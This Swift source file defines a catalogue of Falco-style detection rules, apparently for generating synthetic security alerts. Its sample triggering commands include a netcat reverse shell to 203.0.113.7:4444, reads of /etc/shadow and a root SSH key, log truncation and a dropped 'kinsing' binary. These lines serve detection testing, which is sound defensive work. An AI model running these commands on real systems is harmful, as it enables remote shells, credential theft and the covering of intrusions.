// SPDX-License-Identifier: Apache-2.0

/// The rules whose alerts are made: names and priorities users of Falco know, texts of our own.
struct GeneratedRule: Sendable {
    /// What the alert is about, which decides its fields.
    enum Subject: Sendable {
        case process(commands: [String])
        case file(names: [String], command: String)
        case connection(command: String)
        case audit(verb: String, resource: String)
        case cloud(event: String, service: String)
    }

    let name: String
    let priority: UInt8
    let tags: [String]
    let subject: Subject
    /// How often it fires, relative to the others.
    let weight: Int
    /// What the output line begins with.
    let lead: String

    var source: String {
        switch subject {
        case .process, .file, .connection: "syscall"
        case .audit: "k8s_audit"
        case .cloud: "aws_cloudtrail"
        }
    }

    static let catalogue: [GeneratedRule] = [
        GeneratedRule(
            name: "Terminal shell in container", priority: 5, tags: ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
            subject: .process(commands: ["bash", "sh -i", "bash -il"]), weight: 4, lead: "A shell with a terminal was started in a container"),
        GeneratedRule(
            name: "Read sensitive file untrusted", priority: 4,
            tags: ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
            subject: .file(names: ["/etc/shadow", "/etc/sudoers", "/root/.ssh/id_ed25519"], command: "cat"), weight: 10,
            lead: "A sensitive file was opened for reading by a program that is not trusted"),
        GeneratedRule(
            name: "Write below etc", priority: 3, tags: ["T1098", "container", "filesystem", "host", "mitre_persistence"],
            subject: .file(names: ["/etc/ld.so.cache", "/etc/resolv.conf", "/etc/cron.d/refresh"], command: "cp"), weight: 12,
            lead: "A file below /etc was opened for writing"),
        GeneratedRule(
            name: "Contact K8S API Server From Container", priority: 5,
            tags: ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
            subject: .connection(command: "kubectl get pods"), weight: 60, lead: "The Kubernetes API server was contacted from a container"),
        GeneratedRule(
            name: "Unexpected outbound connection", priority: 4, tags: ["T1071", "container", "mitre_command_and_control", "network"],
            subject: .connection(command: "wget -q -O -"), weight: 18, lead: "A connection to an unexpected destination was opened"),
        GeneratedRule(
            name: "Launch Package Management Process in Container", priority: 3,
            tags: ["T1505", "container", "mitre_persistence", "process"],
            subject: .process(commands: ["apt-get update", "apk add curl", "pip install requests"]), weight: 8,
            lead: "A package manager was started in a container"),
        GeneratedRule(
            name: "Drop and execute new binary in container", priority: 2,
            tags: ["PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable", "mitre_persistence", "process"],
            subject: .process(commands: ["/tmp/.x/kinsing", "/dev/shm/a.out --quiet"]), weight: 1,
            lead: "A program that is not part of the image was executed"),
        GeneratedRule(
            name: "Clear Log Activities", priority: 4, tags: ["T1070", "container", "filesystem", "host", "mitre_defense_evasion"],
            subject: .file(names: ["/var/log/syslog", "/var/log/auth.log"], command: "truncate -s 0"), weight: 3, lead: "A log file was emptied"),
        GeneratedRule(
            name: "Non sudo setuid", priority: 5, tags: ["T1548", "container", "host", "mitre_privilege_escalation", "users"],
            subject: .process(commands: ["su - app", "gosu postgres postgres"]), weight: 20, lead: "The user changed without sudo"),
        GeneratedRule(
            name: "Redirect STDOUT/STDIN to Network Connection in Container", priority: 5,
            tags: ["T1059", "container", "mitre_execution", "network", "process"],
            subject: .connection(command: "nc 203.0.113.7 4444 -e /bin/sh"), weight: 2, lead: "Standard streams were tied to a connection"),
        GeneratedRule(
            name: "Attach/Exec Pod", priority: 5, tags: ["k8s", "mitre_execution"],
            subject: .audit(verb: "create", resource: "pods/exec"), weight: 4, lead: "Somebody attached to a pod"),
        GeneratedRule(
            name: "K8s Secret Get Successfully", priority: 3, tags: ["k8s", "mitre_credential_access"],
            subject: .audit(verb: "get", resource: "secrets"), weight: 9, lead: "A secret was read"),
        GeneratedRule(
            name: "Console Login Without MFA", priority: 2, tags: ["aws", "aws_console", "mitre_initial_access"],
            subject: .cloud(event: "ConsoleLogin", service: "signin.amazonaws.com"), weight: 1, lead: "A console login without a second factor"),
    ]

    static func named(_ name: String) -> GeneratedRule {
        guard let rule = catalogue.first(where: { $0.name == name }) else { preconditionFailure("no rule \(name) in the catalogue") }
        return rule
    }
}
